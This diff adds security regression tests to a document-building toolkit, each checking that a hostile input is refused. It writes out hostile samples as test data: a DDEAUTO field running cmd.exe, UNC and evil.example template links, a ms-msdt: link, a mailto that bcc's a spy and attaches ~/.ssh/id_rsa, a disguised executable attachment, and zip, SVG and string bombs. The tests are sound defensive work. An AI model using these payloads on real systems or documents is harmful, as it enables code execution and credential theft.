@@ -1183,6 +1183,459 @@ def _(env: Env) -> Expect:
     return Expect(env.build(source), FAIL, (at(campaign, 2, "logo"),))
 
 
+# == Received folders: what a template can plant, where files lead, hangs (issue 18)  =========
+def _docx_with(path: Path, changes: dict[str, Callable[[str], str]], extra: dict[str, str]) -> None:
+    """Rewrite a Word template's parts: `changes` edit existing parts, `extra` adds new ones."""
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    for name, change in changes.items():
+        parts[name] = change(parts[name].decode("utf-8")).encode("utf-8")
+    for name, text in extra.items():
+        parts[name] = text.encode("utf-8")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def _relationship(kind: str, target: str, external: bool = True) -> Callable[[str], str]:
+    mode = ' TargetMode="External"' if external else ""
+    element = f'<Relationship Id="rIdEvil" Type="{REL}/{kind}" Target="{target}"{mode}/>'
+    return lambda xml: xml.replace("</Relationships>", element + "</Relationships>")
+
+
+def _in_body(snippet: str) -> Callable[[str], str]:
+    return lambda xml: xml.replace("<w:body>", "<w:body>" + snippet, 1)
+
+
+def _field_paragraph(instruction: str) -> str:
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
+        f'"preserve"> {instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType='
+        '"separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+        "</w:r></w:p>"
+    )
+
+
+def _hostile_word_template(
+    changes: dict[str, Callable[[str], str]], extra: dict[str, str] | None = None, says: str = ""
+) -> Callable[[Env], Expect]:
+    """A local template whose Word file carries something that fetches or runs: refused by
+    `check` and by `build`, with the template's file, the part and what it is."""
+
+    def setup(env: Env) -> Expect:
+        env.template()
+        _docx_with(env.tpl / "document.docx", changes, extra or {})
+        source = _use_template(env)
+
+        def check_refuses_too(run: Run) -> None:
+            checked = run_cli("check", source)
+            assert checked.exit_code == 1, checked.stdout + checked.stderr
+            assert re.search(
+                re.escape(str(env.tpl / "document.docx")) + ".*" + says, checked.stderr
+            ), checked.stderr
+            assert not (env.out / "motion.docx").exists()
+
+        error = re.escape(str(env.tpl / "document.docx")) + ".*" + says
+        return Expect(env.build(source), FAIL, (error,), check=check_refuses_too)
+
+    return setup
+
+
+def _attached_template(env: Env) -> Expect:
+    env.template()
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}'
+        '/attachedTemplate" Target="\\\\evil.example\\share\\normal.dotm" TargetMode='
+        '"External"/></Relationships>'
+    )
+    _docx_with(
+        env.tpl / "document.docx",
+        {
+            "word/settings.xml": lambda xml: xml.replace(
+                "<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom', 1
+            )
+        },
+        {"word/_rels/settings.xml.rels": rels},
+    )
+    source = _use_template(env)
+    return Expect(env.build(source), FAIL, (re.escape(str(env.tpl)) + ".*attached",))
+
+
+CASES["docx-attached-template-on-unc-path"] = _attached_template
+CASES["docx-picture-linked-from-the-web"] = _hostile_word_template(
+    {
+        "word/document.xml": _in_body(
+            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/'
+            f'2006/main" xmlns:r="{REL}" r:link="rIdEvil"/></w:drawing></w:r></w:p>'
+        ),
+        "word/_rels/document.xml.rels": _relationship("image", "http://127.0.0.1:9/beacon.png"),
+    },
+    says="(linked|image)",
+)
+CASES["docx-ddeauto-field"] = _hostile_word_template(
+    {
+        "word/document.xml": _in_body(
+            _field_paragraph('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
+        )
+    },
+    says="DDEAUTO",
+)
+CASES["docx-includepicture-field"] = _hostile_word_template(
+    {
+        "word/document.xml": _in_body(
+            _field_paragraph('INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d')
+        )
+    },
+    says="INCLUDEPICTURE",
+)
+CASES["docx-includetext-field-split-across-runs"] = _hostile_word_template(
+    {
+        "word/document.xml": _in_body(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCL'
+            '</w:instrText></w:r><w:r><w:instrText>UDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"'
+            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        )
+    },
+    says="INCLUDETEXT",
+)
+CASES["docx-unc-hyperlink"] = _hostile_word_template(
+    {"word/_rels/document.xml.rels": _relationship("hyperlink", "file://evil.example/share/x")},
+    says="file: link",
+)
+CASES["docx-altchunk"] = _hostile_word_template(
+    {
+        "word/document.xml": _in_body(f'<w:altChunk xmlns:r="{REL}" r:id="rIdEvil"/>'),
+        "word/_rels/document.xml.rels": _relationship("aFChunk", "evil.html", external=False),
+    },
+    {"word/evil.html": "<html><body><img src='http://127.0.0.1:9/x.png'></body></html>"},
+    says="(altChunk|aFChunk|foreign)",
+)
+CASES["docx-external-ole-link"] = _hostile_word_template(
+    {"word/_rels/document.xml.rels": _relationship("oleObject", "http://127.0.0.1:9/x.xlsx")},
+    says="oleObject",
+)
+CASES["docx-macros"] = _hostile_word_template(
+    {}, {"word/vbaProject.bin": 'Attribute VB_Name = "ThisDocument"'}, says="macros"
+)
+
+
+def _zip_bomb(env: Env) -> Expect:
+    env.template()
+    path = env.tpl / "document.docx"
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+        archive.writestr("word/media/bomb.png", b"\0" * 200_000_000)
+    return Expect(env.build(_use_template(env)), FAIL, (re.escape(str(path)) + ".*bomb",))
+
+
+CASES["docx-zip-bomb"] = _zip_bomb
+
+
+def _pdf_link(href: str, says: str, style: str = "") -> Callable[[Env], Expect]:
+    def setup(env: Env) -> Expect:
+        env.template()
+        _insert_after_body(env, f'<a href="{href}"{style}>Read more</a>')
+        source = _use_template(env)
+
+        def no_folder_named(run: Run) -> None:
+            assert str(env.root) not in run.stderr, "the builder's folders were shown"
+
+        return Expect(
+            env.build(source, "-f", "pdf"), FAIL, (template_error(env, says),), no_folder_named
+        )
+
+    return setup
+
+
+CASES["pdf-link-file-url"] = _pdf_link("file:///etc/passwd", "file:")
+CASES["pdf-link-smb"] = _pdf_link("smb://evil.example/share", "smb:")
+CASES["pdf-link-javascript"] = _pdf_link("javascript:app.alert(1)", "javascript:")
+CASES["pdf-link-ms-msdt"] = _pdf_link("ms-msdt:/id PCWDiagnostic", "ms-msdt:")
+CASES["pdf-link-relative-becomes-no-file-path"] = _pdf_link(
+    "../../private/secret.txt", "a file: link ('secret.txt')"
+)
+CASES["pdf-invisible-link-over-the-page"] = _pdf_link(
+    "https://evil.example/",
+    "larger than the words",
+    ' style="position: absolute; top: 0; left: 0; width: 180mm; height: 250mm; display: block"',
+)
+
+
+def _data_attachment(env: Env) -> Expect:
+    env.template()
+    _edit(
+        env.tpl / "document.html.j2",
+        "<head>",
+        '<head>\n  <link rel="attachment" title="Invoice.pdf.exe"'
+        ' href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA">',
+    )
+    return Expect(
+        env.build(_use_template(env), "-f", "pdf"), FAIL, (template_error(env, "attach"),)
+    )
+
+
+CASES["pdf-data-url-attachment"] = _data_attachment
+
+
+def _mailto(link: str, says: str) -> Callable[[Env], Expect]:
+    def setup(env: Env) -> Expect:
+        source = motion(env, yaml_doc(resolution(resolves=[f"[Email the secretary]({link})"])))
+        return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "resolves.0", says),))
+
+    return setup
+
+
+CASES["mailto-bcc-and-attach"] = _mailto(
+    "mailto:a@b.example?bcc=spy%40evil.example&attach=/home/user/.ssh/id_rsa", "'bcc'"
+)
+CASES["mailto-two-recipients"] = _mailto("mailto:a@b.example,spy@evil.example", "exactly one")
+
+
+@case("email-field-with-bcc")
+def _(env: Env) -> Expect:
+    data = resolution(
+        send_to=[{"name": "Union office", "email": "a@b.example?bcc=spy@evil.example"}]
+    )
+    source = motion(env, yaml_doc(data))
+    return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "send_to.0.email", "one email"),))
+
+
+@case("folder-document-linked-from-elsewhere")
+def _(env: Env) -> Expect:
+    outside = env.root / "private" / "their-motion.yaml"
+    outside.write_text(MINIMAL.replace("Solidarity", "Stolen"))
+    env.link("linked.yaml", outside)
+    motion(env)
+
+    def linked_one_skipped(run: Run) -> None:
+        assert "Stolen" not in (env.out / "motion.pdf").read_bytes().decode("latin-1")
+        assert not (env.out / "linked.pdf").exists()
+        assert re.search(re.escape(str(env.doc / "linked.yaml")) + ": skipped: a link", run.stderr)
+
+    return Expect(["build", env.doc, "-o", env.out], OK, check=linked_one_skipped)
+
+
+@case("campaign-file-by-absolute-path-elsewhere")
+def _(env: Env) -> Expect:
+    elsewhere = env.root / "private" / "campaign.yaml"
+    elsewhere.write_text("name: Outsider Campaign\nemail: outsider@example.org\n")
+    source = motion(env, MINIMAL + f"campaign: {elsewhere}\n")
+    return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "campaign", "above it"),))
+
+
+@case("build-record-crafted-to-keep-the-senders-pdf")
+def _(env: Env) -> Expect:
+    import json
+
+    source = motion(env)
+    env.out.mkdir()
+    planted = b"%PDF-1.7 the sender's file with an /OpenAction /JavaScript"
+    (env.out / "motion.pdf").write_bytes(planted)
+    (env.out / "motion.docx").write_bytes(b"PK planted")
+    # A record claiming these files are up to date (any fingerprint: it cannot match hashes).
+    record = {"unionkit": 2, "entries": {str(env.out / "motion"): {"inputs": "x", "outputs": {}}}}
+    (env.out / ".unionkit-build.json").write_text(json.dumps(record))
+
+    def rebuilt(run: Run) -> None:
+        assert (env.out / "motion.pdf").read_bytes() != planted
+        assert "1 built" in run.stderr, run.stderr
+
+    return Expect(env.build(source), OK, texts=("Solidarity",), check=rebuilt)
+
+
+def _odd_record(kind: str) -> Callable[[Env], Expect]:
+    def setup(env: Env) -> Expect:
+        source = motion(env)
+        env.out.mkdir()
+        record = env.out / ".unionkit-build.json"
+        if kind == "dev-zero":
+            record.symlink_to("/dev/zero")
+        elif kind == "fifo":
+            os.mkfifo(record)
+        elif kind == "folder":
+            record.mkdir()
+
+        def warned(run: Run) -> None:
+            assert re.search(
+                re.escape(str(record)) + ": warning: is not a build record", run.stderr
+            )
+
+        return Expect(env.build(source), OK, texts=("Solidarity",), check=warned)
+
+    return setup
+
+
+CASES["build-record-is-dev-zero"] = _odd_record("dev-zero")
+CASES["build-record-is-a-fifo"] = _odd_record("fifo")
+CASES["build-record-is-a-folder"] = _odd_record("folder")
+
+
+@case("output-folder-is-a-link-elsewhere")
+def _(env: Env) -> Expect:
+    import io
+
+    from pypdf import PdfWriter
+
+    target = env.root / "private"
+    victim = target / "motion.pdf"
+    own = io.BytesIO()
+    writer = PdfWriter()
+    writer.add_blank_page(100, 100)
+    writer.write(own)
+    victim.write_bytes(own.getvalue())
+    env.out.symlink_to(target)
+    source = motion(env)
+
+    def untouched(run: Run) -> None:
+        assert victim.read_bytes() == own.getvalue()
+        assert "-o" in run.stderr and "link" in run.stderr
+
+    return Expect(env.build(source), (2,), check=untouched)
+
+
+@case("output-sub-folder-is-a-link-elsewhere")
+def _(env: Env) -> Expect:
+    (env.doc / "branch").mkdir()
+    env.write("branch/motion.yaml", MINIMAL)
+    env.out.mkdir()
+    (env.out / "branch").symlink_to(env.root / "private")
+
+    def untouched(run: Run) -> None:
+        assert not (env.root / "private" / "motion.pdf").exists()
+
+    error = re.escape(str(env.out / "branch" / "motion")) + ".*link to somewhere else"
+    return Expect(["build", env.doc, "-o", env.out], FAIL, (error,), check=untouched)
+
+
+@case("svg-use-amplification")
+def _(env: Env) -> Expect:
+    parts = [
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/'
+        'xlink" width="100" height="100"><defs><rect id="a0" width="1" height="1"/>'
+    ]
+    for level in range(1, 10):
+        uses = "".join(f'<use xlink:href="#a{level - 1}"/>' for _ in range(10))
+        parts.append(f'<g id="a{level}">{uses}</g>')
+    parts.append('</defs><use xlink:href="#a9"/></svg>')
+    env.write("bomb.svg", "".join(parts))
+    source = env.write("leaflet.yaml", "template: leaflet\nheadline: Justice\nimage: bomb.svg\n")
+    return Expect(env.build(source), FAIL, (at(source, 3, "image", "<use>"),))
+
+
+@case("svg-external-reference")
+def _(env: Env) -> Expect:
+    env.write(
+        "picture.svg",
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+        '<image xlink:href="http://127.0.0.1:9/beacon.png" width="10" height="10"/></svg>',
+    )
+    source = env.write("leaflet.yaml", "template: leaflet\nheadline: Justice\nimage: picture.svg\n")
+
+    def no_blank_docx(run: Run) -> None:
+        assert not (env.out / "leaflet.docx").exists()
+
+    return Expect(env.build(source), FAIL, (at(source, 3, "image", "refers to"),), no_blank_docx)
+
+
+@case("yaml-900k-unknown-keys")
+def _(env: Env) -> Expect:
+    lines = "".join(f"unknown_{n}: x\n" for n in range(900_000))
+    source = env.write_bytes("motion.yaml", (MINIMAL.lstrip() + lines).encode()[:9_800_000])
+
+    def short(run: Run) -> None:
+        assert len(run.stderr) < 5_000, len(run.stderr)
+
+    return Expect(env.build(source), FAIL, (at(source, 1, says="lines"),), check=short)
+
+
+@case("data-column-list-position-in-the-millions")
+def _(env: Env) -> Expect:
+    source = motion(env)
+    table = env.write("rows.csv", "branch.name,send_to.99999999.name\nBranch,Someone\n")
+    return Expect(
+        [*env.build(source), "--data", table], FAIL, (at(table, 1, "send_to.99999999.name"),)
+    )
+
+
+def _string_bomb(expression: str, says: str = "value that large") -> Callable[[Env], Expect]:
+    def setup(env: Env) -> Expect:
+        env.template()
+        line = _insert_after_body(env, expression)
+        return Expect(
+            env.build(_use_template(env), "-f", "pdf"),
+            FAIL,
+            (at(env.tpl / "document.html.j2", line, says=says),),
+        )
+
+    return setup
+
+
+CASES["tpl-percent-format-width"] = _string_bomb('{{ "%0999999999d" % 1 }}', "format width")
+CASES["tpl-center-width"] = _string_bomb("{{ title | center(999999999) }}")
+CASES["tpl-indent-width"] = _string_bomb('{{ (title ~ "\\n") * 10 | indent(99999999) }}')
+CASES["tpl-str-format-width"] = _string_bomb('{{ "{:>999999999}".format(1) }}', "format width")
+CASES["tpl-replace-chain"] = _string_bomb("{{ title" + ' | replace("o", title)' * 14 + " }}")
+
+
+@case("tpl-link-to-a-huge-file-is-not-read")
+def _(env: Env) -> Expect:
+    huge = env.root / "private" / "huge.bin"
+    with huge.open("wb") as stream:
+        stream.truncate(6 * 1024**3)  # a sparse 6 GB file: no disk used
+    env.template()
+    (env.tpl / "photo.bin").symlink_to(huge)
+    return Expect(env.build(_use_template(env)), OK, texts=("Solidarity",))
+
+
+@case("tpl-link-to-proc-self-mem")
+def _(env: Env) -> Expect:
+    env.template()
+    (env.tpl / "mem").symlink_to("/proc/self/mem")
+    return Expect(env.build(_use_template(env)), OK, texts=("Solidarity",))
+
+
+@case("templates-copy-onto-a-dangling-link")
+def _(env: Env) -> Expect:
+    target = env.link("mine", env.root / "nowhere")
+    return Expect(
+        ["templates", "copy", "resolution", target], FAIL, (at(target, None, says="link"),)
+    )
+
+
+@case("watch-a-link-to-the-root-folder")
+def _(env: Env) -> Expect:
+    root = env.link("everything", "/")
+    return Expect(["watch", root, "-o", env.out], (2,))
+
+
+@case("preview-of-a-page-kilometres-wide")
+def _(env: Env) -> Expect:
+    env.template()
+    css = env.tpl / "style.css"
+    css.write_text(css.read_text() + "\n@page { size: 5000mm 5000mm !important; }\n")
+    source = _use_template(env)
+    return Expect(
+        ["preview", source, "-o", env.out / "page.png", "--dpi", "300"],
+        FAIL,
+        (at(source, None, says="too large to draw"),),
+    )
+
+
+@case("image-decompression-bomb-warning-size")
+def _(env: Env) -> Expect:
+    env.write_bytes("photo.png", png_bomb(10_000, 10_000))
+    source = env.write("leaflet.yaml", "template: leaflet\nheadline: Justice\nimage: photo.png\n")
+    return Expect(env.build(source), FAIL, (at(source, 3, "image"),))
+
+
 # == the checks every case makes  =================================================================
 @pytest.fixture
 def guard(monkeypatch: pytest.MonkeyPatch) -> list[str]:
@@ -1332,7 +1785,7 @@ def test_the_corpus_is_big_enough() -> None:
 # A template or a document can ask for a great deal of work in a few bytes. These run as
 # `python -m toolkit` in child processes (started together, so a hang costs its deadline once),
 # each capped at 2 GB of memory and killed if still running after BOUNDED_SECONDS.
-BOUNDED_SECONDS = 15
+BOUNDED_SECONDS = 30
 MEMORY_CAP = 2 * 1024**3
 BOUNDED: dict[str, Callable[[Env], Expect]] = {}
 
